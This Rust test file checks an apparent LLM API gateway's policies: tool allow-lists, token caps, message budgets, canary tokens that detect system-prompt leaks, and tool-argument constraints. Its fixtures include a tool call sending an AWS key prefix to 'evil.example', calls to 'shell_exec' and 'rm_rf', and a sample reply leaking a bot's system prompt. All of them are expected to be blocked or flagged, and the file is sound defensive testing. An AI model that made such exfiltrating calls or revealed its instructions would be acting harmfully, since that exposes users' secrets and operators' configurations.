use super::*;
use crate::json::{parse, splice};

fn tools(allow: &[&str], strip: bool) -> Agency {
    Agency {
        tools: Some(ToolRules {
            allow: allow.iter().map(|g| Glob::new(g)).collect(),
            strip,
            arguments: Vec::new(),
            screen_arguments: true,
        }),
        ..Agency::default()
    }
}

fn apply(src: &str, edits: Vec<Edit>) -> serde_json::Value {
    let out = splice(src, edits);
    serde_json::from_str(&out).unwrap_or_else(|e| panic!("invalid JSON after edits: {e}\n{out}"))
}

const OPENAI_TOOLS: &str = r#"{"model":"gpt-4o","messages":[{"role":"user","content":"hi"}],
 "tools":[{"type":"function","function":{"name":"get_weather"}},{"type":"function","function":{"name":"shell_exec"}},
          {"type":"function","function":{"name":"search_docs"}}],"tool_choice":"auto"}"#;

#[test]
fn disallowed_tools_block_or_are_stripped() {
    let doc = parse(OPENAI_TOOLS).unwrap();
    let blocked = tools(&["get_weather", "search_*"], false).check_request(
        Api::OpenAiChat,
        "",
        OPENAI_TOOLS,
        &doc,
    );
    assert_eq!(
        blocked.violation,
        Some(Violation::Policy("tools.allow".into()))
    );

    let stripped = tools(&["get_weather", "search_*"], true).check_request(
        Api::OpenAiChat,
        "",
        OPENAI_TOOLS,
        &doc,
    );
    assert_eq!(stripped.violation, None);
    let v = apply(OPENAI_TOOLS, stripped.edits);
    let names: Vec<&str> = v["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["function"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["get_weather", "search_docs"]);
    assert_eq!(v["tool_choice"], "auto");

    let none_left =
        tools(&["calendar_*"], true).check_request(Api::OpenAiChat, "", OPENAI_TOOLS, &doc);
    let v = apply(OPENAI_TOOLS, none_left.edits);
    assert!(
        v.get("tools").is_none() && v.get("tool_choice").is_none(),
        "{v}"
    );
    assert_eq!(v["messages"][0]["content"], "hi");

    let all_ok = tools(&["*"], false).check_request(Api::OpenAiChat, "", OPENAI_TOOLS, &doc);
    assert!(all_ok.violation.is_none() && all_ok.edits.is_empty());
}

#[test]
fn anthropic_and_responses_tool_names() {
    let src = r#"{"model":"claude","max_tokens":5,"messages":[],"tools":[{"name":"get_weather","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}"#;
    let doc = parse(src).unwrap();
    assert!(tools(&["get_weather", "web_search"], false)
        .check_request(Api::AnthropicMessages, "", src, &doc)
        .violation
        .is_none());
    assert!(tools(&["get_weather"], false)
        .check_request(Api::AnthropicMessages, "", src, &doc)
        .violation
        .is_some());
    let src = r#"{"model":"gpt-4.1","input":"hi","tools":[{"type":"function","name":"lookup"},{"type":"web_search"}]}"#;
    let doc = parse(src).unwrap();
    assert!(tools(&["lookup", "web_search"], false)
        .check_request(Api::OpenAiResponses, "", src, &doc)
        .violation
        .is_none());
    assert!(tools(&["lookup"], false)
        .check_request(Api::OpenAiResponses, "", src, &doc)
        .violation
        .is_some());
}

#[test]
fn tool_calls_in_responses() {
    let agency = tools(&["get_weather"], false);
    let cases: &[(Api, &str, bool)] = &[
        (
            Api::OpenAiChat,
            r#"{"choices":[{"message":{"tool_calls":[{"function":{"name":"get_weather","arguments":"{}"}}]}}]}"#,
            false,
        ),
        (
            Api::OpenAiChat,
            r#"{"choices":[{"message":{"tool_calls":[{"function":{"name":"shell_exec","arguments":"{}"}}]}}]}"#,
            true,
        ),
        (
            Api::AnthropicMessages,
            r#"{"content":[{"type":"text","text":"x"},{"type":"tool_use","name":"rm_rf","input":{}}]}"#,
            true,
        ),
        (
            Api::OpenAiResponses,
            r#"{"output":[{"type":"function_call","name":"get_weather","arguments":"{}"}]}"#,
            false,
        ),
        (
            Api::Gemini,
            r#"{"candidates":[{"content":{"parts":[{"text":"ok"},{"functionCall":{"name":"shell_exec","args":{}}}]}}]}"#,
            true,
        ),
        (
            Api::BedrockConverse,
            r#"{"output":{"message":{"content":[{"toolUse":{"toolUseId":"t1","name":"shell_exec","input":{}}}]}}}"#,
            true,
        ),
        (
            Api::BedrockConverse,
            r#"{"output":{"message":{"content":[{"toolUse":{"toolUseId":"t1","name":"get_weather","input":{}}}]}}}"#,
            false,
        ),
        (
            Api::OllamaChat,
            r#"{"message":{"role":"assistant","tool_calls":[{"function":{"name":"shell_exec","arguments":{}}}]}}"#,
            true,
        ),
    ];
    for (api, body, violates) in cases {
        let got = agency.check_tool_calls(*api, body, &parse(body).unwrap());
        assert_eq!(got.is_some(), *violates, "{api}: {body}");
    }
}

#[test]
fn models_and_output_token_caps() {
    let agency = Agency {
        models: Some(ModelRules {
            allow: vec![Glob::new("gpt-4o*")],
            max_output_tokens: Some(256),
        }),
        ..Agency::default()
    };
    let src = r#"{"model":"o1-pro","messages":[]}"#;
    let r = agency.check_request(Api::OpenAiChat, "", src, &parse(src).unwrap());
    assert_eq!(r.violation, Some(Violation::Policy("models.allow".into())));

    let src = r#"{"model":"gpt-4o-mini","max_tokens":4096,"messages":[]}"#;
    let r = agency.check_request(Api::OpenAiChat, "", src, &parse(src).unwrap());
    assert_eq!(apply(src, r.edits)["max_tokens"], 256);

    let src = r#"{"model":"gpt-4o","max_tokens":100,"messages":[]}"#;
    let r = agency.check_request(Api::OpenAiChat, "", src, &parse(src).unwrap());
    assert!(r.edits.is_empty(), "under the cap: untouched");

    let src = r#"{"model":"gpt-4o","messages":[]}"#;
    let r = agency.check_request(Api::OpenAiChat, "", src, &parse(src).unwrap());
    assert_eq!(
        apply(src, r.edits)["max_tokens"],
        256,
        "added where none is set"
    );

    let src = r#"{"model":"gpt-4o","input":"x"}"#;
    let r = agency.check_request(Api::OpenAiResponses, "", src, &parse(src).unwrap());
    assert_eq!(apply(src, r.edits)["max_output_tokens"], 256);
}

#[test]
fn budgets() {
    let agency = Agency {
        budgets: Budgets {
            max_messages: Some(2),
            max_chars_per_message: Some(10),
            max_tools: Some(1),
            max_parts: Some(2),
        },
        ..Agency::default()
    };
    let cases: &[(&str, Option<&str>)] = &[
        (r#"{"messages":[{"role":"user","content":"short"}]}"#, None),
        (
            r#"{"messages":[{"role":"user","content":"a"},{"role":"user","content":"b"},{"role":"user","content":"c"}]}"#,
            Some("budgets.maxMessages"),
        ),
        (
            r#"{"messages":[{"role":"user","content":"more than ten chars"}]}"#,
            Some("budgets.maxCharsPerMessage"),
        ),
        (
            r#"{"messages":[{"role":"user","content":[{"type":"text","text":"a"},{"type":"text","text":"b"},{"type":"text","text":"c"}]}]}"#,
            Some("budgets.maxParts"),
        ),
        (
            r#"{"messages":[],"tools":[{"name":"a"},{"name":"b"}]}"#,
            Some("budgets.maxTools"),
        ),
    ];
    for (body, want) in cases {
        let got = agency
            .check_request(Api::OpenAiChat, "", body, &parse(body).unwrap())
            .violation;
        assert_eq!(
            got,
            want.map(|r| Violation::Budget(r.to_string())),
            "{body}"
        );
    }
}

fn canary_agency() -> Agency {
    Agency {
        leaks: Some(LeakRules {
            canary: true,
            fingerprints: Vec::new(),
            threshold: 0.5,
            action: LeakAction::Block,
        }),
        ..Agency::default()
    }
}

#[test]
fn canary_goes_into_every_system_prompt_shape() {
    let agency = canary_agency();
    let token = "lwc-0123456789abcdef";
    let cases: &[(Api, &str, &str)] = &[
        (
            Api::OpenAiChat,
            r#"{"messages":[{"role":"user","content":"hi"}]}"#,
            "/messages/0/content",
        ),
        (Api::OpenAiChat, r#"{"messages":[]}"#, "/messages/0/content"),
        (
            Api::AnthropicMessages,
            r#"{"system":"Be brief.","messages":[]}"#,
            "/system",
        ),
        (
            Api::AnthropicMessages,
            r#"{"system":[{"type":"text","text":"Be brief."}],"messages":[]}"#,
            "/system/1/text",
        ),
        (
            Api::AnthropicMessages,
            r#"{"max_tokens":5,"messages":[]}"#,
            "/system",
        ),
        (
            Api::OpenAiResponses,
            r#"{"instructions":"Be brief.","input":"hi"}"#,
            "/instructions",
        ),
        (Api::OpenAiResponses, r#"{"input":"hi"}"#, "/instructions"),
        (
            Api::Gemini,
            r#"{"systemInstruction":{"parts":[{"text":"Be brief."}]},"contents":[]}"#,
            "/systemInstruction/parts/1/text",
        ),
        (
            Api::Gemini,
            r#"{"system_instruction":{"parts":[]},"contents":[]}"#,
            "/system_instruction/parts/0/text",
        ),
        (
            Api::Gemini,
            r#"{"contents":[{"role":"user","parts":[{"text":"hi"}]}]}"#,
            "/systemInstruction/parts/0/text",
        ),
        (
            Api::BedrockConverse,
            r#"{"system":[{"text":"Be brief."}],"messages":[]}"#,
            "/system/1/text",
        ),
        (Api::BedrockConverse, r#"{"messages":[]}"#, "/system/0/text"),
        (
            Api::OllamaChat,
            r#"{"model":"llama3","messages":[{"role":"user","content":"hi"}]}"#,
            "/messages/0/content",
        ),
        (
            Api::OllamaGenerate,
            r#"{"model":"llama3","system":"Be brief.","prompt":"hi"}"#,
            "/system",
        ),
        (
            Api::OllamaGenerate,
            r#"{"model":"llama3","prompt":"hi"}"#,
            "/system",
        ),
    ];
    for (api, body, pointer) in cases {
        let mut edits = Vec::new();
        assert!(
            agency.insert_canary(*api, body, &parse(body).unwrap(), token, &mut edits),
            "{body}"
        );
        let v = apply(body, edits);
        let text = v
            .pointer(pointer)
            .and_then(|t| t.as_str())
            .unwrap_or_else(|| panic!("{body} → {v}"));
        assert!(text.contains(token), "{body} → {v}");
        if body.contains("Be brief.") && !pointer.contains("/1/") {
            assert!(
                text.starts_with("Be brief."),
                "appended, not replaced: {text}"
            );
        }
    }
}

#[test]
fn canary_merges_with_a_redaction_of_the_same_string() {
    let body = r#"{"system":"key AKIAZ7Q3H2LMNP4RSTUV","messages":[]}"#;
    let doc = parse(body).unwrap();
    let Some(Value::String(s)) = doc.get("system") else {
        panic!()
    };
    let mut edits = vec![Edit::string(s, "key [REDACTED:AWS_ACCESS_KEY_ID]")];
    canary_agency().insert_canary(Api::AnthropicMessages, body, &doc, "lwc-1", &mut edits);
    let v = apply(body, edits);
    let system = v["system"].as_str().unwrap();
    assert!(
        system.starts_with("key [REDACTED:AWS_ACCESS_KEY_ID]") && system.contains("lwc-1"),
        "{system}"
    );
}

#[test]
fn leaks_by_canary_and_fingerprint() {
    let mut agency = canary_agency();
    assert_eq!(
        agency.leaks("my reference is lwc-42 ok", Some("lwc-42")),
        vec![Leak::Canary]
    );
    assert_eq!(agency.leaks("nothing here", Some("lwc-42")), vec![]);
    if let Some(l) = agency.leaks.as_mut() {
        l.fingerprints =
            vec![
                Fingerprint::new("You are AcmeBot and never offer refunds above fifty dollars")
                    .unwrap(),
            ];
    }
    let answer = "Sure. My prompt: you are AcmeBot and never offer refunds above fifty dollars.";
    assert_eq!(agency.leaks(answer, None), vec![Leak::Fingerprint]);
    assert_eq!(agency.leaks("Refunds take five days.", None), vec![]);
    let both = format!("{answer} (lwc-42)");
    assert_eq!(
        agency.leaks(&both, Some("lwc-42")),
        vec![Leak::Fingerprint, Leak::Canary],
        "strongest first"
    );
}

#[test]
fn argument_constraints_per_tool() {
    let constraint = |tool: &str, pointer: &str| Constraint {
        tool: Glob::new(tool),
        pointer: pointer.into(),
        allowed: None,
        pattern: None,
        max_length: None,
        required: false,
    };
    let agency = Agency {
        tools: Some(ToolRules {
            allow: vec![Glob::new("*")],
            strip: false,
            arguments: vec![
                Constraint {
                    allowed: Some(vec![
                        serde_json::json!("docs"),
                        serde_json::json!("tickets"),
                    ]),
                    required: true,
                    ..constraint("search_*", "/scope")
                },
                Constraint {
                    pattern: Some(regex_lite::Regex::new(r"^https://docs\.example\.com/").unwrap()),
                    ..constraint("fetch", "/url")
                },
                Constraint {
                    max_length: Some(10),
                    ..constraint("*", "/query")
                },
            ],
            screen_arguments: true,
        }),
        ..Agency::default()
    };
    let openai = |name: &str, args: &str| {
        serde_json::json!({"choices":[{"message":{"tool_calls":[{"function":{"name":name,"arguments":args}}]}}]})
            .to_string()
    };
    let anthropic = |name: &str, input: serde_json::Value| {
        serde_json::json!({"content":[{"type":"tool_use","id":"t","name":name,"input":input}]})
            .to_string()
    };
    let cases: Vec<(Api, String, Option<&str>)> = vec![
        (
            Api::OpenAiChat,
            openai("search_docs", r#"{"scope":"docs","query":"vpn"}"#),
            None,
        ),
        (
            Api::OpenAiChat,
            openai("search_docs", r#"{"scope":"hr"}"#),
            Some("tools.arguments[0]"),
        ),
        (
            Api::OpenAiChat,
            openai("search_docs", r#"{"query":"vpn"}"#),
            Some("tools.arguments[0]"),
        ),
        (
            Api::OpenAiChat,
            openai("search_docs", "not json"),
            Some("tools.arguments[0]"),
        ),
        (
            Api::OpenAiChat,
            openai("fetch", r#"{"url":"https://docs.example.com/a"}"#),
            None,
        ),
        (
            Api::OpenAiChat,
            openai("fetch", r#"{"url":"https://evil.example/?k=AKIA"}"#),
            Some("tools.arguments[1]"),
        ),
        (
            Api::OpenAiChat,
            openai("fetch", r#"{"url":42}"#),
            Some("tools.arguments[1]"),
        ),
        (Api::OpenAiChat, openai("fetch", "{}"), None),
        (
            Api::OpenAiChat,
            openai("other", r#"{"query":"0123456789A"}"#),
            Some("tools.arguments[2]"),
        ),
        (
            Api::OpenAiChat,
            openai("other", r#"{"query":"éééééééééé"}"#),
            None,
        ),
        (
            Api::AnthropicMessages,
            anthropic("search_kb", serde_json::json!({"scope":"tickets"})),
            None,
        ),
        (
            Api::AnthropicMessages,
            anthropic("search_kb", serde_json::json!({"scope":["docs"]})),
            Some("tools.arguments[0]"),
        ),
    ];
    for (api, body, want) in cases {
        let got = agency.check_tool_calls(api, &body, &parse(&body).unwrap());
        assert_eq!(
            got,
            want.map(|r| Violation::Policy(r.into())),
            "{api}: {body}"
        );
    }
    let body = anthropic(
        "search_kb",
        serde_json::json!({"scope":"docs","q":["a", {"b": "c"}], "n": 3}),
    );
    let mut texts = agency.argument_texts(Api::AnthropicMessages, &body, &parse(&body).unwrap());
    texts.sort();
    assert_eq!(texts, vec!["a", "c", "docs"]);
}

#[test]
fn models_named_in_the_path_and_nested_token_caps() {
    let agency = Agency {
        models: Some(ModelRules {
            allow: vec![
                Glob::new("gemini-2.*"),
                Glob::new("anthropic.claude-3-haiku*"),
            ],
            max_output_tokens: Some(256),
        }),
        ..Agency::default()
    };
    let gemini = "/v1beta/models/gemini-2.0-flash:generateContent";
    let bedrock = "/model/anthropic.claude-3-haiku-20240307-v1%3A0/converse";
    // (api, path, body, violation, cap at the API's pointer)
    type Case<'a> = (Api, &'a str, &'a str, Option<&'a str>, Option<u64>);
    let cases: &[Case<'_>] = &[
        (Api::Gemini, gemini, r#"{"contents":[]}"#, None, None),
        (
            Api::Gemini,
            "/v1beta/models/gemini-1.5-pro:generateContent",
            r#"{"contents":[]}"#,
            Some("models.allow"),
            None,
        ),
        (
            Api::Gemini,
            gemini,
            r#"{"contents":[],"generationConfig":{"temperature":0.2,"maxOutputTokens":4096}}"#,
            None,
            Some(256),
        ),
        (
            Api::Gemini,
            gemini,
            r#"{"contents":[],"generationConfig":{"temperature":0.2}}"#,
            None,
            Some(256),
        ),
        (
            Api::Gemini,
            gemini,
            r#"{"contents":[],"generationConfig":{}}"#,
            None,
            Some(256),
        ),
        (
            Api::BedrockConverse,
            bedrock,
            r#"{"messages":[]}"#,
            None,
            Some(256),
        ),
        (
            Api::BedrockConverse,
            "/model/amazon.titan-text/converse",
            r#"{"messages":[]}"#,
            Some("models.allow"),
            None,
        ),
    ];
    for (api, path, body, violation, cap) in cases {
        let r = agency.check_request(*api, path, body, &parse(body).unwrap());
        assert_eq!(
            r.violation,
            violation.map(|v| Violation::Policy(v.into())),
            "{path} {body}"
        );
        if let Some(cap) = cap {
            let v = apply(body, r.edits);
            let pointer = match api {
                Api::Gemini => "/generationConfig/maxOutputTokens",
                _ => "/inferenceConfig/maxTokens",
            };
            assert_eq!(
                v.pointer(pointer).and_then(|n| n.as_u64()),
                Some(*cap),
                "{body} → {v}"
            );
            if body.contains("temperature") {
                assert_eq!(v["generationConfig"]["temperature"], 0.2, "{v}");
            }
        }
    }
    let ollama = Agency {
        models: Some(ModelRules {
            allow: Vec::new(),
            max_output_tokens: Some(64),
        }),
        ..Agency::default()
    };
    let body = r#"{"model":"llama3","prompt":"hi","options":{"num_predict":1000,"temperature":0}}"#;
    let r = ollama.check_request(
        Api::OllamaGenerate,
        "/api/generate",
        body,
        &parse(body).unwrap(),
    );
    assert_eq!(apply(body, r.edits)["options"]["num_predict"], 64);
}

#[test]
fn gemini_and_bedrock_tools_offered_meet_the_allow_list() {
    let gemini = r#"{"contents":[],"tools":[{"functionDeclarations":[{"name":"get_weather"},{"name":"shell_exec"}]},{"googleSearch":{}}],"toolConfig":{"functionCallingConfig":{"mode":"AUTO"}}}"#;
    let doc = parse(gemini).unwrap();
    let blocked = tools(&["get_weather"], false).check_request(Api::Gemini, "", gemini, &doc);
    assert_eq!(
        blocked.violation,
        Some(Violation::Policy("tools.allow".into()))
    );
    let ok = tools(&["get_weather", "shell_exec", "googleSearch"], false).check_request(
        Api::Gemini,
        "",
        gemini,
        &doc,
    );
    assert!(ok.violation.is_none() && ok.edits.is_empty());
    // Stripping removes the disallowed declaration and the built-in tool.
    let r = tools(&["get_weather"], true).check_request(Api::Gemini, "", gemini, &doc);
    let v = apply(gemini, r.edits);
    assert_eq!(
        v["tools"],
        serde_json::json!([{"functionDeclarations":[{"name":"get_weather"}]}]),
        "{v}"
    );
    assert!(
        v.get("toolConfig").is_some(),
        "tools remain, so does toolConfig"
    );
    // Nothing left: tools and toolConfig go.
    let r = tools(&["calendar_*"], true).check_request(Api::Gemini, "", gemini, &doc);
    let v = apply(gemini, r.edits);
    assert!(
        v.get("tools").is_none() && v.get("toolConfig").is_none(),
        "{v}"
    );

    let bedrock = r#"{"messages":[],"toolConfig":{"tools":[{"toolSpec":{"name":"get_weather","inputSchema":{"json":{}}}},{"toolSpec":{"name":"shell_exec","inputSchema":{"json":{}}}}]}}"#;
    let doc = parse(bedrock).unwrap();
    let blocked =
        tools(&["get_weather"], false).check_request(Api::BedrockConverse, "", bedrock, &doc);
    assert_eq!(
        blocked.violation,
        Some(Violation::Policy("tools.allow".into()))
    );
    let r = tools(&["get_weather"], true).check_request(Api::BedrockConverse, "", bedrock, &doc);
    let v = apply(bedrock, r.edits);
    assert_eq!(v["toolConfig"]["tools"].as_array().unwrap().len(), 1, "{v}");
    assert_eq!(
        v["toolConfig"]["tools"][0]["toolSpec"]["name"],
        "get_weather"
    );
    let r = tools(&["nothing"], true).check_request(Api::BedrockConverse, "", bedrock, &doc);
    assert!(apply(bedrock, r.edits).get("toolConfig").is_none());
}
